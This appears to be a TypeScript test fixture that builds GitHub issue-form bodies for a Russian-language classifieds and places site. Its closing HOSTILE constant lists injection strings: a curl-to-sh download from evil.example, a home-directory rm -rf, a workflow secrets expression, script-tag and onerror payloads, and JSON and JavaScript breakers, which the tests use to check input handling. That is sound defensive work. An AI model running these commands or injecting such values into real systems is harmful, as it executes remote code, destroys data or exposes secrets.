/** Issue bodies as GitHub writes them for the forms, built from answers so each test changes only what it needs. */
import { SALE_LABELS } from '../listing';
import { PLACE_LABELS } from '../place';

const CONSENT =
  '- [X] Я понимаю, что мой ник в Telegram увидят все читатели сайта, а сайт не участвует в сделке — о цене, встрече и оплате я договариваюсь с покупателем напрямую.';

export const SALE_ANSWERS: Record<keyof typeof SALE_LABELS, string> = {
  title: 'Прогулочная коляска',
  price: '1 200 000',
  reducedPrice: '_No response_',
  description: 'Складывается одной рукой, в хорошем состоянии.\nЗабрать в Микрорайоне.',
  seller: '@anna_sells',
  photo: '_No response_',
  consent: CONSENT,
};

export const PLACE_ANSWERS: Record<keyof typeof PLACE_LABELS, string> = {
  name: 'Чайхана "Бахор"',
  category: 'Кафе и рестораны',
  where: 'ул. Регистан, 5 https://yandex.uz/maps/?ll=66.975%2C39.655&pt=66.974512%2C39.654321&z=17',
  hours: 'пн–сб 8:00–20:00',
  phone: '+998 66 233 12 12',
  links: 'https://www.instagram.com/bahor_sam/\nhttps://t.me/bahor_sam',
  description: 'Плов по утрам - и лагман весь день',
  seen: 'ноябрь 2026',
  source: 'Была там сама',
};

/** `### Label\n\nanswer\n\n` for each field, in the given order of keys. */
export function issueBody<K extends string>(
  labels: Record<K, string>,
  answers: Record<K, string>,
  order: readonly K[] = Object.keys(labels) as K[],
): string {
  return order.map((key) => `### ${labels[key]}\n\n${answers[key]}\n\n`).join('');
}

export const saleBody = (changes: Partial<typeof SALE_ANSWERS> = {}, order?: (keyof typeof SALE_LABELS)[]) =>
  issueBody(SALE_LABELS, { ...SALE_ANSWERS, ...changes }, order);

export const placeBody = (changes: Partial<typeof PLACE_ANSWERS> = {}) =>
  issueBody(PLACE_LABELS, { ...PLACE_ANSWERS, ...changes });

/** Text that would do harm if it were ever run by a shell, a workflow expression, or rendered as HTML. */
export const HOSTILE = [
  '$(curl -s https://evil.example/x | sh)',
  '`rm -rf ~`',
  '${{ secrets.GITHUB_TOKEN }}',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '[ссылка](https://evil.example)',
  "'; process.exit(1); //",
  '"},{"sold":true',
].join(' ');
